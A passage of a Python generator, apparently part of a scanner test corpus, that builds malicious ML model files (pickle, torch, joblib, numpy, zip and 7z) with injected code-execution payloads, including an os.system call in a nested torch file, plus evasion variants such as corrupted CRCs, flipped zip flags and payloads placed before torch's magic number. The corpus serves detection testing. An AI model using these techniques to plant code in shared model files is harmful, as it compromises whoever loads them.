        elif op.name in ("BINGET", "LONG_BINGET"):
            vals.append(memo.get(arg))
        elif op.name not in ("BINPUT", "LONG_BINPUT"):
            vals.append(None)
    order: list[str] = []
    elsize: dict[str, int] = {}
    for i in range(len(vals) - 2):
        if vals[i] == "storage" and isinstance(vals[i + 1], str) and \
                vals[i + 1].startswith("torch ") and isinstance(vals[i + 2], str):
            key = vals[i + 2]
            if key not in elsize:
                order.append(key)
                elsize[key] = _STORAGE_ELEMENT_SIZE[vals[i + 1].split()[1]]
    old_keys = [arg for op, arg, _ in pb.ops(data, s4) if isinstance(arg, str)]
    if sorted(old_keys) != sorted(order):
        raise ValueError("legacy storage keys do not match the object pickle")
    blocks: dict[str, bytes] = {}
    pos = e4
    for key in old_keys:
        numel = struct.unpack("<q", data[pos:pos + 8])[0]
        n = 8 + numel * elsize[key]
        blocks[key] = data[pos:pos + n]
        pos += n
    if pos != len(data):
        raise ValueError("legacy storage blocks do not cover the file")
    obj = data[s3:e3]
    for i, key in enumerate(order):
        old = b"X" + struct.pack("<I", len(key)) + key.encode()
        new = b"X" + struct.pack("<I", len(str(i))) + str(i).encode()
        if obj.count(old) != 1:
            raise ValueError(f"legacy key {key} not found once")
        obj = obj.replace(old, new)
    keys_pickle = pickle.dumps([str(i) for i in range(len(order))], protocol=2)
    return (data[:s3] + obj + keys_pickle +
            b"".join(blocks[k] for k in order))


_MISC: dict[str, Any] = {}


def sklearn_model():
    if "sk" not in _MISC:
        import numpy as np
        from sklearn.linear_model import LogisticRegression
        rng = np.random.RandomState(7)
        x = rng.normal(size=(40, 4))
        y = (x[:, 0] + 0.5 * x[:, 1] > 0).astype(int)
        _MISC["sk"] = LogisticRegression(max_iter=200).fit(x, y)
    return _MISC["sk"]


def pickle_host() -> tuple[bytes, list]:
    """A plain pickle of a fitted sklearn model (classic-ml), protocol 4."""
    return pickle.dumps(sklearn_model(), protocol=4), [["attr", "coef_"]]


def joblib_host() -> tuple[bytes, list]:
    """joblib.dump (uncompressed) of a fitted sklearn model."""
    if "jl" not in _MISC:
        import joblib
        b = io.BytesIO()
        joblib.dump(sklearn_model(), b)
        _MISC["jl"] = b.getvalue()
    return _MISC["jl"], [["attr", "coef_"]]


def npy_host() -> tuple[bytes, bytes]:
    """(header, pickle) of ``np.save`` of a small object array."""
    if "npy" not in _MISC:
        import numpy as np
        arr = np.empty(3, dtype=object)
        arr[0] = {"name": "embedding", "dim": 16}
        arr[1] = "label-map"
        arr[2] = [1.5, 2.5, 3.5]
        b = io.BytesIO()
        np.save(b, arr, allow_pickle=True)
        data = b.getvalue()
        # header: magic(6) ver(2) len(2 for v1) header...
        if data[6] == 1:
            hlen = 10 + struct.unpack("<H", data[8:10])[0]
        else:
            hlen = 12 + struct.unpack("<I", data[8:12])[0]
        _MISC["npy"] = (data[:hlen], data[hlen:])
    return _MISC["npy"]


def numpy_dict_pickle() -> tuple[bytes, list]:
    """Host for hosted-only techniques in raw containers: a plain pickle of
    a dict of float arrays."""
    import numpy as np
    rng = np.random.RandomState(3)
    obj = {"W": rng.normal(size=(4, 3)).astype("float32"),
           "b": np.zeros(3, dtype="float32")}
    return pickle.dumps(obj, protocol=4), [["item", "W"]]


def inner_torch_zip(t: str) -> bytes:
    """A clean torch zip whose data.pkl first runs the inner payload."""
    host = torch_host("torch-module")
    inner = Technique(t, "nested", (F, E), "inner payload",
                      lambda ctx: Seq((MKDIR, call("builtins", "open",
                                                   marker(t, ".inner"), "w"),
                                       call("os", "system", CMD))))
    data_pkl, _ = inject(read_member(host.zip_bytes, "archive/data.pkl"),
                         inner, 0)
    return rewrite_torch_zip(host.zip_bytes, data_pkl)


def inner_npy(t: str) -> bytes:
    header, _ = npy_host()
    return header + inner_pickle(t)


# --- zip surgery ---------------------------------------------------------------


def read_member(zip_bytes: bytes, name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as zf:
        return zf.read(name)


def _aligned_info(name: str, offset: int) -> zipfile.ZipInfo:
    """A stored member whose data starts on a 64-byte boundary (like torch's
    writer, via an 'FB' padding extra field)."""
    info = common.fixed_zipinfo(name)
    base = offset + 30 + len(name.encode()) + 4
    pad = (-base) % 64
    info.extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
    return info


def rewrite_torch_zip(host_zip: bytes, data_pkl: bytes,
                      prefix: str | None = None,
                      pkl_name: str = "data.pkl") -> bytes:
    """The host zip with its ``<top>/data.pkl`` replaced; every other member
    keeps its bytes and order.  ``prefix`` renames the top folder."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(host_zip)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            top, _, rest = info.filename.partition("/")
            data = data_pkl if rest == pkl_name else src.read(info)
            name = f"{prefix or top}/{rest}"
            dst.writestr(_aligned_info(name, out.tell()), data)
    return out.getvalue()


def _find_entries(zip_bytes: bytes, name: str) -> tuple[int, int]:
    """(local header offset, central directory entry offset) of ``name``."""
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as zf:
        info = zf.getinfo(name)
        local = info.header_offset
    raw = name.encode()
    i = zip_bytes.find(b"PK\x01\x02")
    while i >= 0:
        nlen = struct.unpack("<H", zip_bytes[i + 28:i + 30])[0]
        if zip_bytes[i + 46:i + 46 + nlen] == raw:
            return local, i
        i = zip_bytes.find(b"PK\x01\x02", i + 4)
    raise ValueError(f"no central directory entry for {name}")


def corrupt_crc(zip_bytes: bytes, name: str) -> bytes:
    """Flips the stored CRC-32 of ``name`` in both headers (torch's miniz is
    built with CRC checks disabled; Python's zipfile rejects the member)."""
    b = bytearray(zip_bytes)
    local, central = _find_entries(zip_bytes, name)
    for off in (local + 14, central + 16):
        crc = struct.unpack("<I", b[off:off + 4])[0] ^ 0xDEADBEEF
        b[off:off + 4] = struct.pack("<I", crc)
    return bytes(b)


def flip_flags(zip_bytes: bytes, name: str, bits: int, local: bool,
               central: bool) -> bytes:
    b = bytearray(zip_bytes)
    loc, cen = _find_entries(zip_bytes, name)
    offs = ([loc + 6] if local else []) + ([cen + 8] if central else [])
    for off in offs:
        v = struct.unpack("<H", b[off:off + 2])[0] ^ bits
        b[off:off + 2] = struct.pack("<H", v)
    return bytes(b)


def write_zip(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as zf:
        for name, data in members:
            zf.writestr(common.fixed_zipinfo(name), data)
    return out.getvalue()


def legacy_segments(data: bytes) -> list[tuple[int, int]]:
    """[start, end) of the five pickles of a legacy torch file (magic,
    protocol, sys_info, object, storage keys)."""
    segs, pos = [], 0
    for _ in range(5):
        end = pb.stream_end(data, pos)
        segs.append((pos, end))
        pos = end
    return segs


def seven_zip(inner_name: str, data: bytes) -> bytes:
    with tempfile.TemporaryDirectory(prefix="dynahug-7z-") as d:
        p = pathlib.Path(d) / inner_name
        p.write_bytes(data)
        os.chmod(p, 0o644)
        os.utime(p, (315532800, 315532800))
        out = pathlib.Path(d) / "out.7z"
        subprocess.run(["7z", "a", "-t7z", "-mx=1", "-mmt=1", "-mtm=off",
                        "-mtc=off", "-mta=off", "-bd", "-bso0", "-bsp0",
                        str(out), inner_name], cwd=d, check=True,
                       stdin=subprocess.DEVNULL)
        return out.read_bytes()


# --- containers ----------------------------------------------------------------

RAW_EXTS = (".bin", ".pt", ".pkl", ".ckpt", ".joblib", ".npy")
RAW_PROTOS = (2, 4, 0, 3, 5, 1)
JOBLIB_COMPRESS = ("zlib", "gzip", "bz2", "xz", "lzma")
ZIP_VARIANTS = ("bad-crc", "renamed-folder", "flags-utf8", "flags-local-enc")


def _compress(kind: str, data: bytes) -> bytes:
    if kind == "zlib":
        return zlib.compress(data, 3)
    if kind == "gzip":
        return gzip.compress(data, 3, mtime=0)
    if kind == "bz2":
        return bz2.compress(data, 3)
    if kind == "xz":
        return lzma.compress(data, lzma.FORMAT_XZ, preset=3)
    if kind == "lzma":
        return lzma.compress(data, lzma.FORMAT_ALONE, preset=3)
    raise ValueError(kind)


JOBLIB_FORMAT = {"zlib": "zlib", "gzip": "gzip", "bz2": "bzip2", "xz": "xz",
                 "lzma": "lzma"}


@dataclasses.dataclass(frozen=True)
class Job:
    technique: str
    container: str   # raw | raw-host | raw-stacked | torch-zip | torch-zip-variant |
    #                  torch-legacy | joblib | npy | npz | zip | 7z-torch | 7z-raw
    variant: str     # ext / host / compression / zip variant
    index: int       # variant index (protocol choice etc.)


# Containers a hosted-only (suffix) technique cannot use.
_NEEDS_NO_HOST = ("npy", "npz", "torch-legacy", "torch-legacy-magic")


def plan(small: bool) -> list[Job]:
    """Every (technique, container, variant) the corpus holds, in order."""
    jobs: list[Job] = []
    tids = sorted(TECHNIQUES)
    others = ["torch-legacy", "joblib", "joblib:zlib", "npy", "npz", "zip",
              "raw-host", "torch-zip-variant:bad-crc",
              "torch-zip-variant:renamed-folder", "joblib:gzip",
              "torch-zip-variant:flags-utf8", "7z-torch", "joblib:bz2",
              "torch-zip-variant:flags-local-enc", "joblib:xz", "7z-raw",
              "joblib:lzma", "torch-legacy-magic"]
    for n, tid in enumerate(tids):
        tech = TECHNIQUES[tid]
        want: list[tuple[str, str]] = []
        if small:
            want.append(("raw", RAW_EXTS[n % len(RAW_EXTS)]))
            want.append(("torch-zip", TORCH_HOSTS[n % len(TORCH_HOSTS)]))
            for k in range(len(others)):
                kind, _, var = others[(n + k) % len(others)].partition(":")
                if not (tech.hosted_only and kind in _NEEDS_NO_HOST):
                    break
            want.append((kind, var))
            if n % 6 == 0:  # appended last: the other jobs keep their index
                want.append(("raw-stacked", "sklearn"))
        else:
            for ext in RAW_EXTS:
                want.append(("raw", ext))
            want.append(("raw-host", "sklearn"))
            want.append(("raw-stacked", "sklearn"))
            for k in range(2):
                want.append(("torch-zip", TORCH_HOSTS[(n + k) % len(TORCH_HOSTS)]))
            for v in ZIP_VARIANTS:
                want.append(("torch-zip-variant", v))
            want.append(("torch-legacy", TORCH_HOSTS[(n + 2) % len(TORCH_HOSTS)]))
            want.append(("torch-legacy-magic", TORCH_HOSTS[(n + 3) % len(TORCH_HOSTS)]))
            want.append(("joblib", ""))
            for k in range(2):
                want.append(("joblib", JOBLIB_COMPRESS[(n + k) % len(JOBLIB_COMPRESS)]))
            for kind in ("npy", "npz", "zip", "7z-torch", "7z-raw"):
                want.append((kind, ""))
        for i, (kind, var) in enumerate(want):
            if tech.hosted_only and kind in _NEEDS_NO_HOST:
                # npy: no object with weights; legacy torch reads storage
                # bytes only after the object pickle, so an in-place change
                # made while unpickling would be overwritten.
                continue
            if kind in ("torch-zip-variant", "torch-legacy", "7z-torch",
                        "torch-legacy-magic") and \
                    var in ("", None):
                var = TORCH_HOSTS[(n + 3) % len(TORCH_HOSTS)]
            jobs.append(Job(tid, kind, var, i))
    return jobs


def _raw_payload(tech: Technique, job: Job, seed: int) -> tuple[bytes, dict]:
    """Stand-alone payload for raw containers (hosted-only techniques get
    a numpy-dict host)."""
    if tech.hosted_only:
        host, path = numpy_dict_pickle()
        data, info = inject(host, tech, seed, path)
        info["host"] = "numpy-dict"
        return data, info
    protos = tech.protos or RAW_PROTOS
    k = job.index + sorted(TECHNIQUES).index(tech.id)  # small mode varies too
    proto = protos[k % len(protos)]
    if tech.kind == "bytes":
        proto = (5, 4, 2, 3, 0, 1)[k % 6]
    p = compile_payload(tech, proto, seed)
    info = {"protocol": proto, "payload_span": [0, len(p.data)]}
    if p.break_offset is not None:
        info["break_offset"] = p.break_offset
    return p.data, info


def _torch_zip_member(zip_bytes: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(zip_bytes)) as zf:
        return next(n for n in zf.namelist() if n.endswith("/data.pkl"))


def build(job: Job, seed: int) -> tuple[str, bytes, dict]:
    """(relative file name, bytes, entry fields) of one job; pure function
    of (job, seed)."""
    tech = TECHNIQUES[job.technique]
    tid = tech.id
    params: dict = {"technique": tid, "container": job.container,
                    "variant": job.variant, "index": job.index, "seed": seed,
                    "family": tech.family}
    cluster, library, loads = "none", tech.library, tech.loads
    fmt = "raw-pickle"
    if job.container == "raw":
        data, info = _raw_payload(tech, job, seed)
        params.update(info)
        if tech.hosted_only:
            cluster = "numpy-pandas"
        name = f"payload{job.variant}"
        params["ext"] = job.variant
    elif job.container == "raw-host":
        host, path = pickle_host()
        data, info = inject(host, tech, seed, path)
        params.update(info, host="sklearn-logreg")
        cluster, library, name = "classic-ml", "sklearn", "model.pkl"
        if tech.library != "pickle":
            library = tech.library
    elif job.container == "raw-stacked":
        # A clean pickle, then the stand-alone payload as a second stream:
        # only a loader that reads every stacked stream runs it.
        # payload_span indexes the payload stream, which starts at
        # stream_offset in the file.
        host, _ = pickle_host()
        raw, info = _raw_payload(tech, Job(tid, "raw", ".pkl", job.index), seed)
        params.update(info, stacked_after="sklearn-logreg",
                      stream_offset=len(host), stream=1)
        data = host + raw
        cluster, library, name = "classic-ml", "sklearn", "model.pkl"
        if tech.library != "pickle":
            library = tech.library
    elif job.container in ("torch-zip", "torch-zip-variant", "torch-legacy",
                           "torch-legacy-magic", "7z-torch"):
        host_name = job.variant if job.container != "torch-zip-variant" else \
            TORCH_HOSTS[(sorted(TECHNIQUES).index(tid) + ZIP_VARIANTS.index(
                job.variant)) % len(TORCH_HOSTS)]
        host = torch_host(host_name)
        params["host"] = host_name
        cluster, library = host.cluster, "torch"
        if job.container in ("torch-legacy", "torch-legacy-magic"):
            # The object pickle (segment 3), or the magic-number pickle
            # (segment 0) that torch.load unpickles before any check.
            seg = 3 if job.container == "torch-legacy" else 0
            segs = legacy_segments(host.legacy_bytes)
            s, e = segs[seg]
            newpk, info = inject(host.legacy_bytes[s:e], tech, seed,
                                 host.tamper_path)
            data = host.legacy_bytes[:s] + newpk + host.legacy_bytes[e:]
            info["payload_span"] = [s + info["payload_span"][0],
                                    s + info["payload_span"][1]]
            if "break_offset" in info:
                info["break_offset"] += s
            info["pickle_segment"] = seg
            params.update(info)
            # With the payload in front of the magic number the file no
            # longer sniffs as legacy torch (torch.load still reads it).
            fmt = "torch-legacy" if seg == 3 else "raw-pickle"
            name = "model.pt"
        else:
            member = "archive/data.pkl"
            newpk, info = inject(read_member(host.zip_bytes, member), tech,
                                 seed, host.tamper_path)
            prefix = None
            if job.variant == "renamed-folder":
                prefix = f"{host_name.replace('-', '_')}_final"
            data = rewrite_torch_zip(host.zip_bytes, newpk, prefix)
            member = f"{prefix or 'archive'}/data.pkl"
            if job.variant == "bad-crc":
                data = corrupt_crc(data, member)
            elif job.variant == "flags-utf8":
                data = flip_flags(data, member, 0x0806, True, True)
                info["flag_bits"] = 0x0806
            elif job.variant == "flags-local-enc":
                data = flip_flags(data, member, 0x0001, True, False)
                info["flag_bits"] = 0x0001
            info["pickle_member"] = member
            params.update(info)
            fmt = "torch-zip"
            name = ("model.pt", "pytorch_model.bin", "weights.pth",
                    "last.ckpt")[job.index % 4]
            if job.container == "7z-torch":
                data = seven_zip(name, data)
                params["inner_name"] = name
                fmt, name = "7z", "model.7z"
    elif job.container == "joblib":
        host, path = joblib_host()
        data, info = inject(host, tech, seed, path)
        params.update(info, host="sklearn-logreg")
        cluster, library, fmt, name = "classic-ml", "joblib", "joblib", \
            "model.joblib"
        if job.variant:
            data = _compress(job.variant, data)
            params["compression"] = job.variant
            fmt = JOBLIB_FORMAT[job.variant]
            name = f"model.joblib.{job.variant}" if job.index % 2 else "model.pkl"
    elif job.container in ("npy", "npz"):
        header, hpk = npy_host()
        newpk, info = inject(hpk, tech, seed)
        info["payload_span"] = [len(header) + info["payload_span"][0],
                                len(header) + info["payload_span"][1]]
        if "break_offset" in info:
            info["break_offset"] += len(header)
        params.update(info, host="object-array")
        data = header + newpk
        cluster, library, fmt, name = "numpy-pandas", "numpy", "npy", \
            "embeddings.npy"
        if job.container == "npz":
            data = write_zip([("labels.npy", data)])
            params["pickle_member"] = "labels.npy"
            fmt, name = "npz", "arrays.npz"
    elif job.container in ("zip", "7z-raw"):
        raw, info = _raw_payload(tech, Job(tid, "raw", ".pkl", job.index), seed)
        params.update(info)
        if job.container == "zip":
            data = write_zip([("model/model.pkl", raw)])
            params["pickle_member"] = "model/model.pkl"
            fmt, name = "zip", "model.zip"
        else:
            data = seven_zip("model.pkl", raw)
            params["inner_name"] = "model.pkl"
            fmt, name = "7z", "model.7z"
    else:
        raise ValueError(f"unknown container {job.container}")
    stem = f"{job.container}-{job.variant or 'plain'}-{job.index}".replace(
        ".", "").replace(":", "-")
    rel = f"malicious/{tid}/{stem}-{name}"
    if tech.kind == "broken":
        loads = False
    fields = {"cluster": cluster, "library": library, "format": fmt,
              "group": f"malicious/{tid}", "params": params,
              "technique": tid, "effects": list(tech.effects),
              "loads": loads,
              "description": tech.description}
    return rel, data, fields


def _write_one(args: tuple[Job, int, str]) -> dict:
    job, seed, out = args
    out_dir = pathlib.Path(out)
    rel, data, fields = build(job, seed)
    path = out_dir / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    fmt = fields.pop("format")
    return common.make_entry(out_dir, path, label="malicious", fmt=fmt,
                             **fields)


def _warm() -> None:
    """Builds every host once (before forking workers, which inherit it)."""
    for name in TORCH_HOSTS:
        torch_host(name)
    pickle_host()
    joblib_host()
    npy_host()


def generate(out_dir: pathlib.Path, small: bool, seed: int,
             jobs: int = 1) -> list[dict]:
    """Writes ``out_dir/malicious/<technique>/...``; returns manifest
    entries (sorted by path)."""
    out_dir = pathlib.Path(out_dir)
    work = [(j, seed, str(out_dir)) for j in plan(small)]
    _warm()
    if jobs > 1:
        import multiprocessing
        ctx = multiprocessing.get_context("fork")
        with ctx.Pool(jobs) as pool:
            entries = pool.map(_write_one, work, chunksize=16)
    else:
        entries = [_write_one(w) for w in work]
    return sorted(entries, key=lambda e: e["path"])


def technique_table() -> str:
    """Markdown table of every technique (the README section is made from
    it: ``/usr/bin/python3 tools/corpus/malicious.py --list``)."""
    rows = ["| technique | family | effects | loads | what the payload does |",
            "|---|---|---|---|---|"]
    for tid in sorted(TECHNIQUES, key=lambda t: (TECHNIQUES[t].family, t)):
        t = TECHNIQUES[tid]
        desc = t.description.replace("|", "\\|")
        rows.append(f"| `{tid}` | {t.family} | {', '.join(t.effects)} | "
                    f"{'yes' if t.loads else 'no'} | {desc} |")
    return "\n".join(rows)


if __name__ == "__main__":
    import argparse
    ap = argparse.ArgumentParser(description="malicious corpus techniques")
    ap.add_argument("--list", action="store_true",
                    help="print the technique table (markdown)")
    ap.add_argument("--plan", action="store_true",
                    help="print the (technique, container, variant) plan")
    ap.add_argument("--small", action="store_true")
    a = ap.parse_args()
    if a.list:
        print(technique_table())
    if a.plan:
        for j in plan(a.small):
            print(j.technique, j.container, j.variant or "-", j.index)
    if not (a.list or a.plan):
        ap.print_help()
